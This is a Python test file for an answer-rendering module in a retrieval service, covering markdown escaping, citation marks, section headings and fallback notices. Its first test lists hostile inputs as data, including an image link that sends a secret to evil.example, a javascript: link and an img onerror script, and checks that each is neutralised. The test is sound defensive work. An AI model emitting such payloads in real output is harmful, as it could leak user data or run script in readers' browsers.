from __future__ import annotations

import re
from dataclasses import replace

import pytest

from shrag.serving.api.chat_completions.markdown import escape_markdown
from shrag.serving.api.chat_completions.response import AnswerText
from shrag.serving.events import (
    Answer,
    AnswerSentence,
    Authors,
    Citation,
    Fallback,
    FollowUp,
    Ranking,
    Section,
    Sentence,
)


@pytest.mark.parametrize(
    ("hostile", "shown"),
    [
        ("![x](http://evil.example/?q=secret)", r"!\[x]\(`http://evil.example/?q=secret)`"),
        ("![x][ref]", r"!\[x]\[ref]"),
        ("[ref]: http://evil.example", r"[ref]\: `http://evil.example`"),
        ("[click](javascript:alert(1))", r"[click]\(javascript:alert(1))"),
        ("<img src=x onerror=alert(1)>", r"\<img src=x onerror=alert(1)>"),
        ("</div><!-- a -->", r"\</div>\<!-- a -->"),
        ("<http://evil.example>", r"\<`http://evil.example>`"),
        ("```html", r"\`\`\`html"),
        ("p < 0.05 [1], 30 > 20", "p < 0.05 [1], 30 > 20"),
    ],
)
def test_no_picture_link_or_html_can_be_made_of_a_records_text(hostile: str, shown: str) -> None:
    assert escape_markdown(hostile) == shown


def _text() -> AnswerText:
    return AnswerText("en", lambda docid: f"/d?{docid}")


def _answer(*citations: Citation) -> Answer:
    sentence = Sentence("It rose by 3%.", (1, 2))
    return Answer("extractive", "en", (Section("body", (sentence,)),), citations)


def test_parts_have_headings_sentences_their_marks_and_issues_their_words() -> None:
    text = _text()
    said = [
        text.feed(AnswerSentence("title", Sentence("Work <b>at home</b>", (1,)))),
        text.feed(AnswerSentence("body", Sentence("It rose by 3%.", (1, 2)))),
        text.feed(AnswerSentence("body", Sentence("It fell.", (), supported=False, issue="no_citation"))),
    ]
    assert said == [
        "## Work \\<b>at home\\</b>",
        "\n\n### Main Body\n\nIt rose by 3%. [1][2]",
        " It fell. (⚠ cites no record)",
    ]
    assert text.text == "".join(said)
    assert text.annotations == ()


def test_a_section_of_one_record_has_its_title_and_its_mark_once() -> None:
    text = _text()
    lead, other, third = Citation(1, "a", "<b>A</b>"), Citation(2, "b", ""), Citation(4, "d", "D")
    said = [
        text.feed(AnswerSentence("record", Sentence("It rose by 3%.", (1,)), lead)),
        text.feed(AnswerSentence("record", Sentence("It fell.", (1,), supported=False, issue="quote"), lead)),
        text.feed(AnswerSentence("related", Sentence("So it did.", (2,)), other)),
        text.feed(AnswerSentence("related", Sentence("It did.", (4,)), third)),
    ]
    assert said == [
        "## \\<b>A\\</b> [1]\n\nIt rose by 3%.",
        " It fell. [1] (⚠ quotes what the records cited do not say)",
        "\n\n### Related records\n\n**b** [2]\n\nSo it did.",
        "\n\n**D** [4]\n\nIt did.",
    ]
    end = text.feed(replace(_answer(lead, other, third), quoted_language="ko", uncovered=("tea",)))
    lines = end.split("\n\n")
    assert lines[1:3] == [
        "The abstract of the closest record is in Korean; it is quoted in its own language.",
        "Words of the question not found in the quoted record: tea",
    ]
    assert lines[3].startswith("*Extractive")
    marks = [each.url_citation for each in text.annotations]
    assert [text.text[each.start_index : each.end_index] for each in marks] == ["[1]", "[2]", "[4]"]


def test_what_a_quotation_leaves_out_is_marked() -> None:
    text = _text()
    lead = Citation(1, "a", "A")
    text.feed(AnswerSentence("record", Sentence("It rose.", (1,)), lead))
    assert text.feed(AnswerSentence("record", Sentence("It fell.", (1,), after_gap=True), lead)) == " […] It fell."


def test_related_records_without_a_sentence_are_named_behind_those_with_one() -> None:
    lead, other, named, last = (Citation(number, f"d{number}", f"T{number}") for number in (1, 2, 3, 4))
    rose, fell = Sentence("It rose.", (1,)), Sentence("It fell.", (2,))
    sections = (
        Section("record", (rose,), lead),
        Section("related", (fell,), other),
        Section("related", (), named),
        Section("related", (), last),
    )
    text = _text()
    text.feed(AnswerSentence("record", rose, lead))
    text.feed(AnswerSentence("related", fell, other))
    end = text.feed(Answer("extractive", "en", sections, (lead, other, named, last)))
    assert end.startswith("\n\n**T3** [3]\n\n**T4** [4]\n\n*Extractive")
    marks = [each.url_citation for each in text.annotations]
    assert [text.text[each.start_index : each.end_index] for each in marks] == ["[1]", "[2]", "[3]", "[4]"]

    alone = _text()
    alone.feed(AnswerSentence("record", rose, lead))
    assert alone.feed(Answer("extractive", "en", (sections[0], sections[2]), (lead, named))).startswith(
        "\n\n### Related records\n\n**T3** [3]\n\n*Extractive"
    )


def test_sources_stand_at_the_end_and_each_annotation_points_at_its_first_mark() -> None:
    text = _text()
    text.feed(AnswerSentence("body", Sentence("It rose by 3%.", (1, 2))))
    text.feed(AnswerSentence("body", Sentence("So it did.", (2,))))
    last = text.feed(_answer(Citation(1, "a#1", "![A](http://x)"), Citation(2, "b", "")))
    assert last.endswith("**Sources**\n\n- [1] !\\[A]\\(`http://x)` (a#1)\n- [2]  (b)")
    first, second = (one.url_citation for one in text.annotations)
    assert (text.text[first.start_index : first.end_index], first.url) == ("[1]", "/d?a#1")
    assert (text.text[second.start_index : second.end_index], second.title) == ("[2]", "b")
    assert second.start_index == first.end_index
    assert text.finish_reason == "stop"


def test_marks_of_what_was_broken_off_are_not_the_answers() -> None:
    text = _text()
    text.feed(AnswerSentence("body", Sentence("Broken off.", (1,))))
    notice = text.feed(Fallback("answer", "unavailable", "gone"))
    assert notice == "\n\n> The language model does not answer, so this step was done without it."
    again = text.feed(AnswerSentence("body", Sentence("It rose by 3%.", (1,))))
    assert again == "\n\n### Main Body\n\nIt rose by 3%. [1]"
    text.feed(_answer(Citation(1, "a", "A")))
    (only,) = text.annotations
    assert only.url_citation.start_index > len("### Main Body\n\nBroken off. [1]" + notice)


def test_an_answer_with_nothing_is_its_reason_and_other_events_add_nothing() -> None:
    text = _text()
    assert text.feed(Ranking((), "r", False)) == ""
    assert text.feed(Fallback("keywords", "unavailable", "gone")) == ""
    reason = text.feed(Answer("extractive", "en", (), (), "unknown_words"))
    assert re.fullmatch(r"None of the question's words .*", reason)
    assert text.annotations == ()


def test_how_a_follow_up_was_read_and_whom_it_names_are_paragraphs_before_the_answer() -> None:
    text = _text()
    text.feed(FollowUp("Kim and robots", ("robots",)))
    text.feed(Authors(("Kim, Ann",), 1, "first"))
    text.feed(AnswerSentence("body", Sentence("It rose.", ())))
    assert text.text.split("\n\n") == [
        "> Together with the earlier questions, this was understood as: Kim and robots",
        "> Author of this name: Kim, Ann. Their records that match the question come first.",
        "### Main Body",
        "It rose.",
    ]


def test_an_answer_cut_short_says_so() -> None:
    text = _text()
    text.feed(Answer("generated", "en", (), (), "", "m", None, complete=False))
    assert text.finish_reason == "length"
